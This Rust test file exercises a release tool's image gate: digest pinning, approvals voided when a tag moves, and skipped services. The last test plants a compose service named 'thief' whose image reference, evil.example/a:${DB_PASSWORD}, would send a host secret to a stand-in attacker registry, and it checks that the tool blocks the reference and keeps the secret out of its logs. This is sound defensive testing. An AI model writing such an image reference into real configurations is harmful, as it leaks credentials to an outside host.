//! The gate *image*: what stands in the registry is what is approved, and what is approved is what runs.

mod tier2 {
    use std::fs;
    use std::time::Duration;

    use tagwarden::domain::gate::Standing;
    use tagwarden::domain::journal::Channel;
    use tagwarden::domain::names::Person;
    use tagwarden::domain::release::Phase;
    use tagwarden::engine::Demand;
    use tagwarden::engine::view::ReleaseView;

    use crate::compose::{Fault, docker};
    use crate::scene::Scene;

    const GATE: &str = "[repository.environment.gates.image]\n[[repository.environment.gates.image.registry]]\nhost = \"{registry}\"\n";
    /// A gate that is good as long as the file `ready` stands beside the configuration.
    const READY: &str = "[[repository.environment.gates.command]]\nname = \"ready\"\nrun = [\"test\", \"-e\", \"{root}/ready\"]\n";

    impl Scene {
        /// Moves the clock until the gate tells this.
        async fn image_tells(&self, tag: &str, id: &str) -> ReleaseView {
            for _ in 0..60 {
                for _ in 0..25 {
                    if let Some(view) = self.view(tag).await
                        && view.gates.iter().any(|gate| gate.gate == "image" && gate.reason.id == id)
                    {
                        return view;
                    }
                    tokio::time::sleep(Duration::from_millis(20)).await;
                }
                self.world.hand.advance(Duration::from_secs(6));
            }
            panic!("{id} did not come: {:#?}", self.view(tag).await.map(|view| view.gates));
        }

        async fn approve(&self, tag: &str) {
            let view = self.view(tag).await.unwrap();
            let (grace, demand) =
                (Person::parse("grace").unwrap(), Demand::Approve { binding: view.binding });
            self.world.engine().demand(view.row.id, &grace, Channel::Web, demand).await.unwrap();
        }

        async fn told(&self, tag: &str, kind: &str) -> Vec<String> {
            let id = self.view(tag).await.unwrap().row.id;
            let lines = self.world.engine().lines(id, 0).await.unwrap();
            lines
                .into_iter()
                .filter(|line| line.kind == kind)
                .map(|line| format!("{:?}", line.text))
                .collect()
        }

        /// The image that the application was started with, and the digests of the one that it runs.
        fn runs(&self) -> (String, String) {
            let container = self.app.container("app");
            let image = docker(&["inspect", "-f", "{{.Image}}", &container]);
            let digests = docker(&["image", "inspect", "-f", "{{json .RepoDigests}}", &image]);
            (docker(&["inspect", "-f", "{{.Config.Image}}", &container]), digests)
        }
    }

    #[tokio::test(flavor = "multi_thread")]
    #[ignore = "tier 2: container engine"]
    async fn a_version_waits_for_its_image_and_runs_by_digest() {
        let scene = Scene::open_with(0, GATE).await;
        let head = scene.world.ground.production().join(".git/HEAD");
        let before = fs::read_to_string(&head).unwrap();
        scene.push("1.1.0").await;
        let view = scene.image_tells("v1.1.0", "gate-image-absent").await;
        assert_eq!(view.row.phase, Phase::Waiting.name());
        assert_eq!(fs::read_to_string(&head).unwrap(), before, "the running checkout is not touched");
        scene.app.publish("v1.1.0", Fault::None);
        scene.image_tells("v1.1.0", "gate-image-good").await;
        scene.gets_to("v1.1.0", Phase::Watching).await;
        let (named, digests) = scene.runs();
        let digest = scene.app.digest("v1.1.0");
        assert_eq!(named, format!("{}@{digest}", scene.app.image));
        assert!(digests.contains(&digest), "{digests}");
        // The way back of the next one leads to the same image.
        scene.watched("v1.1.0", Phase::Complete).await;
        scene.release("1.2.0", Fault::Unhealthy).await;
        scene.image_tells("v1.2.0", "gate-image-good").await;
        scene.gets_to("v1.2.0", Phase::RolledBack).await;
        assert_eq!(scene.app.version().as_deref(), Some("v1.1.0"));
        assert!(scene.runs().1.contains(&digest));
    }

    #[tokio::test(flavor = "multi_thread")]
    #[ignore = "tier 2: container engine"]
    async fn a_tag_that_is_moved_after_the_approval_voids_it() {
        let scene = Scene::open_with(1, &format!("{GATE}{READY}")).await;
        scene.release("1.1.0", Fault::NoOrders).await;
        scene.image_tells("v1.1.0", "gate-image-good").await;
        scene.approve("v1.1.0").await;
        let approved = scene.app.digest("v1.1.0");
        scene.app.publish("v1.1.0", Fault::None);
        let moved = scene.app.digest("v1.1.0");
        assert_ne!(approved, moved);
        fs::write(scene.world.ground.root().join("ready"), "").unwrap();
        let mut told = Vec::new();
        for _ in 0..60 {
            told = scene.told("v1.1.0", "approval_voided").await;
            if !told.is_empty() {
                break;
            }
            scene.world.hand.advance(Duration::from_secs(6));
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        assert!(told[0].contains("image"), "{told:?}");
        let view = scene.view("v1.1.0").await.unwrap();
        assert_eq!(view.row.phase, Phase::Waiting.name());
        assert!(view.gates.iter().any(|gate| gate.gate == "approval" && gate.standing == Standing::Bad));
        scene.approve("v1.1.0").await;
        scene.gets_to("v1.1.0", Phase::Watching).await;
        assert!(scene.runs().0.ends_with(&moved));
    }

    #[tokio::test(flavor = "multi_thread")]
    #[ignore = "tier 2: container engine"]
    async fn what_the_folder_holds_besides_the_commit_counts_and_a_skipped_service_is_left_out() {
        let scene = Scene::open_with(0, &GATE.replacen('\n', "\nskip = [\"worker\"]\n", 1)).await;
        let image = &scene.app.image;
        scene.write_files(&format!(
            "    env_file: settings.env\n  worker:\n    image: {image}:${{WORKER:?WORKER}}\n    env_file: [more/settings.env]\n"
        ));
        scene.release("1.1.0", Fault::None).await;
        scene.image_tells("v1.1.0", "TW-D010").await;
        let production = scene.world.ground.production();
        fs::write(production.join(".git/info/exclude"), ".env\nsettings.env\nmore\n").unwrap();
        fs::create_dir(production.join("more")).unwrap();
        for name in ["settings.env", "more/settings.env"] {
            fs::write(production.join(name), "A=b\n").unwrap();
        }
        fs::write(production.join(".env"), "WORKER=v1.1.0\n").unwrap();
        let view = scene.image_tells("v1.1.0", "gate-image-good-but").await;
        let gate = view.gates.iter().find(|gate| gate.gate == "image").unwrap();
        assert_eq!(gate.reason.values["services"], "worker");
        scene.gets_to("v1.1.0", Phase::Watching).await;
        assert!(scene.runs().0.contains("@sha256:"));
        let worker = docker(&["inspect", "-f", "{{.Config.Image}}", &scene.app.container("worker")]);
        assert_eq!(worker, format!("{image}:v1.1.0"));
    }

    #[tokio::test(flavor = "multi_thread")]
    #[ignore = "tier 2: container engine"]
    async fn a_secret_of_the_host_in_the_name_of_an_image_goes_nowhere() {
        let scene = Scene::open_with(0, GATE).await;
        scene.write_files("  thief:\n    image: evil.example/a:${DB_PASSWORD}\n");
        let production = scene.world.ground.production();
        fs::write(production.join(".git/info/exclude"), ".env\n").unwrap();
        fs::write(production.join(".env"), "DB_PASSWORD=hunter2\n").unwrap();
        scene.release("1.1.0", Fault::None).await;
        let view = scene.image_tells("v1.1.0", "gate-image-unlisted").await;
        let gate = view.gates.iter().find(|gate| gate.gate == "image").unwrap();
        assert_eq!(gate.reason.values["registry"], "evil.example");
        assert_eq!(gate.reason.values["image"], "evil.example/a:${DB_PASSWORD} (thief)");
        let lines = scene.world.engine().lines(view.row.id, 0).await.unwrap();
        assert!(!format!("{view:?} {lines:?}").contains("hunter2"));
    }
}
